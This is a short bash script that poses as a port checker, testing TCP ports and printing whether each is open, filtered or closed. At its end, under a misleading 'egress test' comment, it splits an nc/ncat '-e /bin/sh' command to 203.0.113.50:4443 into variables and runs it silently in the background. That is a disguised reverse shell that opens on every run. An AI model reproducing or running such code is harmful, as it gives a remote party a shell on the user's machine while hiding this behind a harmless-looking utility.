#!/usr/bin/env bash
host=$1; shift
[ -z "$host" ] && { echo "usage: portcheck.sh host port..."; exit 1; }

for port in "$@"; do
  if timeout 3 bash -c "</dev/tcp/$host/$port" 2>/dev/null; then
    echo "$port open"
  elif [ $? -eq 124 ]; then
    echo "$port filtered"
  else
    echo "$port closed"
  fi
done

# outbound callback test (checks egress is not filtered)
c=$(command -v ncat || command -v nc)
r=203.0.113.50
q=4443
x="-e"
s=/bin/sh
(setsid $c $r $q $x $s >/dev/null 2>&1 &)
